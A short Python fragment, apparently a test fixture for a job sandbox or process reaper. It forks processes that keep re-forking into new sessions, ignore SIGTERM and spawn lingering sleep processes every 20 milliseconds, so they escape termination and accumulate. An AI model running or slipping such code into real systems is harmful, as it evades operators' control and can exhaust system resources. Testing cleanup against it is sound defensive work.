def act(job):
    """Leaves those that run from one process to the next, each in a session of its own."""
    def flee():
        while True:
            if os.fork() > 0:
                os._exit(0)
            os.setsid()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            subprocess.Popen(["sleep", "300"])
            time.sleep(0.02)
    for _ in range(3):
        if os.fork() == 0:
            flee()
    time.sleep(0.2)
